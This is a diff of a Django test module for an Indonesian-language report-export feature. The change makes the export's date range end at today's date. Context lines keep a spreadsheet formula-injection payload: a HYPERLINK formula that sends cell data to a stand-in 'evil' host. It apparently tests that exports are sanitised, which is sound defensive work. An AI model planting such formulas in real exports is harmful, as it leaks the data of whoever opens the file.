@@ -5,6 +5,7 @@ import io
 
 import openpyxl
 from django.urls import reverse
+from django.utils import timezone
 
 from lapor import columns as c
 from lapor import sample
@@ -13,13 +14,19 @@ from lapor.models import LaporRecord
 from reports.models import IdentityRead, Report
 from tests.test_lapor_import import LaporImportCase
 
+
+def everything_until_now():
+    """The export's whole period: the sample's rows (2025–2026) up to today on the test's clock."""
+    return {"received_from": "2025-01-01", "received_to": timezone.localdate().isoformat()}
+
+
 INJECTION = '=HYPERLINK("http://jahat.example/curi?d="&A1,"Klik")'
 
 
 class ExportCase(LaporImportCase):
     def export(self, user, fmt="xlsx", **params):
         self.login(user)
-        query = {"received_from": "2025-01-01", "received_to": "2026-12-31", "format": fmt, **params}
+        query = {**everything_until_now(), "format": fmt, **params}
         response = self.client.get(reverse("lapor:export"), query)
         self.assertEqual(response.status_code, 200)
         return response
@@ -174,7 +181,7 @@ class ExportQueryTests(ExportCase):
     def test_query_count_does_not_grow_with_rows(self):
         run_import(self.xlsx(list(sample.random_rows(5, start_id=100))), dry_run=False)
         self.login(self.coordinator)
-        query = {"received_from": "2025-01-01", "received_to": "2026-12-31", "format": "csv"}
+        query = {**everything_until_now(), "format": "csv"}
         small = self._queries(query)
         run_import(self.xlsx(list(sample.random_rows(30, start_id=200))), dry_run=False)
         self.assertEqual(self._queries(query), small)
